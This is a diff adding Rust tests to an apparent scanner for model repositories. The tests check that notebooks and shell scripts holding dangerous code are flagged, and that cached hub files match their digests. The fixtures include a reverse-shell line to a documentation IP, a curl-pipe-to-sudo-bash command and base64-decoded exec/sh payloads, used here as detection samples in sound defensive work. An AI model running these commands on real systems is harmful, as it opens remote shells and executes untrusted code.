@@ -683,3 +683,76 @@ fn what_lies_in_a_project_is_judged_once() {
     ];
     assert_eq!(told(&files), ["remote-code-in-config medium"]);
 }
+
+#[test]
+fn r06_notebooks_and_shell_scripts_beside_a_model_are_read() {
+    let notebook = |code: &str| {
+        format!(
+            "{{\"cells\": [{{\"cell_type\": \"code\", \"source\": [{code:?}], \"outputs\": [], \"metadata\": {{}}, \"execution_count\": null}}], \"metadata\": {{}}, \"nbformat\": 4, \"nbformat_minor\": 5}}"
+        )
+    };
+    for (path, text, expected) in [
+        (
+            "run.ipynb",
+            notebook("import base64\nexec(base64.b64decode('eA=='))"),
+            Some("critical"),
+        ),
+        ("run.ipynb", notebook("import torch\nprint(torch.zeros(2))"), None),
+        (
+            "setup.sh",
+            "echo aWQ= | base64 -d | sh\n".to_owned(),
+            Some("critical"),
+        ),
+        (
+            "setup.sh",
+            "curl -s https://get.example/x | sudo bash\n".to_owned(),
+            Some("high"),
+        ),
+        (
+            "setup.sh",
+            "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n".to_owned(),
+            Some("critical"),
+        ),
+        (
+            "setup.sh",
+            "curl -O https://a.example/data.json\n# curl x | sh\n".to_owned(),
+            None,
+        ),
+    ] {
+        let told = told(&[("config.json", r#"{"model_type": "x"}"#), (path, text.as_str())]);
+        let own: Vec<&str> = told
+            .iter()
+            .filter_map(|t| t.strip_prefix("dangerous-code-in-model-repository "))
+            .collect();
+        assert_eq!(own, expected.into_iter().collect::<Vec<_>>(), "{path} {text}");
+    }
+}
+
+/// The client of the hub links files of a snapshot to blobs that are named by their digest.
+#[cfg(unix)]
+#[test]
+fn r11_files_of_the_cache_are_those_that_their_names_promise() {
+    let folder = tempfile::tempdir().unwrap();
+    let root = folder.path().join("models--acme--bert");
+    let text = "{\"model_type\": \"x\"}";
+    let told = |blob: &str, text: &str| {
+        let _ = std::fs::remove_dir_all(&root);
+        std::fs::create_dir_all(root.join("blobs")).unwrap();
+        std::fs::create_dir_all(root.join("snapshots/0")).unwrap();
+        let file = root.join("blobs").join(blob);
+        wellhead_sources::write_atomically(&file, text.as_bytes(), false).unwrap();
+        let link = root.join("snapshots/0/config.json");
+        std::os::unix::fs::symlink(format!("../../blobs/{blob}"), link).unwrap();
+        let target = wellhead_sources::Target::Local(root.clone());
+        let entries = wellhead_sources::list(&target, wellhead_sources::WalkOptions::default()).unwrap();
+        let listing = wellhead_engine::Listing {
+            target: "models--acme--bert".to_owned(),
+            prefix: None,
+            entries,
+        };
+        of(&wellhead_engine::run(vec![listing], &Options::default()))
+    };
+    let id = "191c33dcac7dbe7994351b8dd96871c05a8a62ac";
+    assert_eq!(told(id, text), Vec::<String>::new());
+    assert_eq!(told(id, "{\"model_type\": \"y\"}"), ["hub-digest-mismatch high"]);
+}
